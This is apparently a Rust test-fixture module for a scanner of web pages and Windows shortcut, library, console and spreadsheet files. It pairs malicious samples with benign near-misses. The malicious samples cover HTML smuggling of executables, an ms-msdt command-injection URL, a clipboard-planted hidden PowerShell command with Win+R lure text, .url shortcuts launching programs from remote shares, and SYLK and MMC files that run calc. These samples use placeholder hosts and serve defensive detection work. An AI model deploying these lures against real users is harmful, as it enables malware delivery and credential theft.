//! Web pages and the small text files that Explorer acts upon.

use super::{Found, Near, text};

/// A page that saves `payload` under `name`.
fn saving(payload: &str, name: &str) -> Vec<u8> {
    text(&format!(
        "<html><script>var d = at¦ob(\"{payload}\"); var b = new Blo¦b([d]); a.href = URL.createObject¦URL(b); \
         a.down¦load = \"{name}\"; a.cli¦ck();</script></html>"
    ))
}

pub(super) fn bad() -> Vec<Found> {
    let zeros = "A".repeat(60);
    let long = "QUJD".repeat(600);
    vec![
        ("Html_Smuggles_Program", saving(&format!("TVqQ¦AA{zeros}"), "a")),
        ("Html_Smuggles_Program", saving(&format!("UEsDB¦B{zeros}"), "a")),
        ("Html_Saves_By_Itself", saving(&long, "invoice.zi¦p")),
        (
            "Html_Diagnostic_Tool_Runs_Command",
            text("<script>location.href = \"ms-ms¦dt:/id PCWDiagnostic /param IT_Browse¦ForFile=$¦(calc)\"</script>"),
        ),
        (
            "Html_Searches_Foreign_Computer",
            text("<a href=\"search-ms:query=invoice&crumb=loca¦tion:\\\\host.example.invalid@80\\a\">Open</a>"),
        ),
        (
            "Html_Clipboard_Command",
            text(
                "<p>Press Win + R, then Ctrl + V<script>navigator.clip¦board.writeText('power¦shell -w hi¦dden http://example.invalid/')</script>",
            ),
        ),
        (
            "Link_Url_Starts_Program",
            text("[Internet¦Shortcut]\r\nURL=fi¦le:///\\\\host.example.invalid\\a\\setup.ex¦e\r\n"),
        ),
        (
            "Link_Url_Starts_Program_From_Web_Folder",
            text("[Internet¦Shortcut]\r\nURL=file://host.example.invalid@80/¦a/setup.lnk\r\n"),
        ),
        (
            "Link_Url_Starts_Program_From_Web_Folder",
            text(
                "[Internet¦Shortcut]\r\nURL=C:\\Windows\\System32\\a.ex¦e\r\nWorking¦Directory=\\\\host.example.invalid\\a\r\n",
            ),
        ),
        (
            "Link_Asks_Foreign_Computer_For_Icon",
            text(
                "[Internet¦Shortcut]\r\nURL=https://example.invalid/\r\nIcon¦File=\\\\host.example.invalid\\a.ico\r\n",
            ),
        ),
        (
            "Link_Shell_Command_Asks_Foreign_Computer",
            text("[She¦ll]\r\nCommand=2\r\nIcon¦File=\\\\host.example.invalid\\a.ico\r\n"),
        ),
        (
            "Link_Library_On_Foreign_Computer",
            text(
                "<?xml version=\"1.0\"?>\n<library¦Description ><simpleLocation><ur¦l>\\\\host.example.invalid\\a</url></simpleLocation>",
            ),
        ),
        (
            "Link_Setting_Runs_Command",
            text(
                "<PCSet¦tings><Searchable¦Content><ApplicationInformation><Deep¦Link>%windir%\\system32\\cmd.exe /c calc</DeepLink>",
            ),
        ),
        (
            "Link_Console_Runs_Script",
            text("<?xml version=\"1.0\"?>\n<MMC_Console¦File><String>res://apds.d¦ll/redirect.html?</String>"),
        ),
        (
            "Link_Console_Task",
            text(
                "<?xml version=\"1.0\"?>\n<MMC_Console¦File><Task Type=\"Command¦Line\" Command=\"cm¦d.exe\" Params=\"/c calc\"/>",
            ),
        ),
        ("Link_Web_Query", text("WE¦B\r\n1\r\nhtt¦p://example.invalid/a.dat\r\n")),
        (
            "Link_Symbolic_Link_Sheet_Runs_Program",
            text("ID;P¦\nO;E\nNN;NAuto_op¦en;ER1C1\nC;X1;Y1;K0;EEX¦EC(\"calc\")\nE\n"),
        ),
    ]
}

pub(super) fn good() -> Vec<Near> {
    let pages = &[
        "Html_Smuggles_Program",
        "Html_Saves_By_Itself",
        "Html_Diagnostic_Tool_Runs_Command",
        "Html_Searches_Foreign_Computer",
        "Html_Clipboard_Command",
    ];
    let links = &[
        "Link_Url_Starts_Program",
        "Link_Url_Starts_Program_From_Web_Folder",
        "Link_Asks_Foreign_Computer_For_Icon",
        "Link_Shell_Command_Asks_Foreign_Computer",
        "Link_Web_Query",
    ];
    let markup = &[
        "Link_Library_On_Foreign_Computer",
        "Link_Setting_Runs_Command",
        "Link_Console_Runs_Script",
        "Link_Console_Task",
    ];
    let sheet = &["Link_Symbolic_Link_Sheet_Runs_Program"];
    vec![
        (pages, saving("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk", "picture.png")),
        (
            pages,
            text(
                "<p>Open search-ms:query=invoice&amp;crumb=location:C:\\Users, press Win + R and Ctrl + V. ms-msdt is gone.\
                <script>navigator.clipboard.writeText(document.title)</script>",
            ),
        ),
        (links, text("[InternetShortcut]\r\nURL=https://example.invalid/setup.exe\r\nIconFile=C:\\a.ico\r\n")),
        (
            links,
            text(
                "[Shell]\r\nCommand=2\r\nIconFile=explorer.exe,3\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\nWEB\n1\nhttp://example.invalid/\n",
            ),
        ),
        (
            markup,
            text(
                "<?xml version=\"1.0\"?>\n<libraryDescription ><url>knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}</url>\
                <url>C:\\Users</url></libraryDescription>",
            ),
        ),
        (
            markup,
            text(
                "<?xml version=\"1.0\"?>\n<MMC_ConsoleFile ConsoleVersion=\"3.0\"><String>Disk Management</String></MMC_ConsoleFile>\
                <PCSettings><SearchableContent><DeepLink>ms-settings:display</DeepLink>",
            ),
        ),
        (sheet, text("ID;PCALC\nC;X1;Y1;K\"EXEC(1)\"\nC;X1;Y2;K3;ESUM(R1C1:R1C2)\nE\n")),
        (sheet, text("ID;PSCALC3\nP;PGeneral\nNN;NTotal;ER1C1\nC;X1;Y1;K1\nE\n")),
    ]
}
